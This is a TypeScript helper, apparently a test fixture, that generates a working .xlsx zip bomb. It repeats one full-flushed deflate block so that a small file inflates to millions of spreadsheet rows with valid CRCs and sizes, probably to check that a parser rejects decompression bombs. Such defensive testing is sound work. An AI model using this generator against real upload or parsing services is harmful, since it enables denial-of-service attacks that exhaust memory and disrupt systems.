import zlib from 'node:zlib';

/**
 * A real .xlsx zip bomb, made in milliseconds: one sheet of `rows` identical rows whose deflate
 * stream is one full-flushed block of a 1 MB chunk repeated (a full flush resets the dictionary,
 * so the same compressed bytes can follow each other), then an empty final block. The CRC and
 * the sizes in the zip are the true ones: inflated, it really is millions of rows.
 */

interface Part { name: string; data: Buffer; method: 0 | 8; crc: number; size: number }

const stored = (name: string, text: string): Part => {
  const data = Buffer.from(text, 'utf8');
  return { name, data, method: 0, crc: zlib.crc32(data), size: data.length };
};

function bombSheet(rows: number): Part {
  const row = '<row><c t="n"><v>1</v></c><c t="n"><v>2</v></c></row>';
  const perChunk = Math.floor((1024 * 1024) / row.length);
  const chunk = Buffer.from(row.repeat(perChunk), 'utf8');
  const head = Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>', 'utf8');
  const tail = Buffer.from('</sheetData></worksheet>', 'utf8');
  const chunks = Math.ceil(rows / perChunk);
  const flush = { finishFlush: zlib.constants.Z_FULL_FLUSH };
  const block = zlib.deflateRawSync(chunk, flush);
  const parts = [zlib.deflateRawSync(head, flush), ...Array.from({ length: chunks }, () => block), zlib.deflateRawSync(tail)];
  let crc = zlib.crc32(head);
  for (let i = 0; i < chunks; i++) crc = zlib.crc32(chunk, crc);
  crc = zlib.crc32(tail, crc);
  return { name: 'xl/worksheets/sheet1.xml', data: Buffer.concat(parts), method: 8, crc, size: head.length + chunks * chunk.length + tail.length };
}

function zip(parts: readonly Part[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(p.method, 8);
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.data.length, 18);
    local.writeUInt32LE(p.size, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, p.data);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(0x0800, 8);
    entry.writeUInt16LE(p.method, 10);
    entry.writeUInt32LE(p.crc >>> 0, 16);
    entry.writeUInt32LE(p.data.length, 20);
    entry.writeUInt32LE(p.size, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offset, 42);
    central.push(entry, name);
    offset += 30 + name.length + p.data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

export function xlsxBomb(rows = 5_000_000): { bytes: Buffer; unzippedBytes: number } {
  const sheet = bombSheet(rows);
  const parts = [
    stored('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
    stored('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    stored('xl/workbook.xml', '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="花名册" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    stored('xl/_rels/workbook.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
    sheet,
  ];
  return { bytes: zip(parts), unzippedBytes: parts.reduce((s, p) => s + p.size, 0) };
}
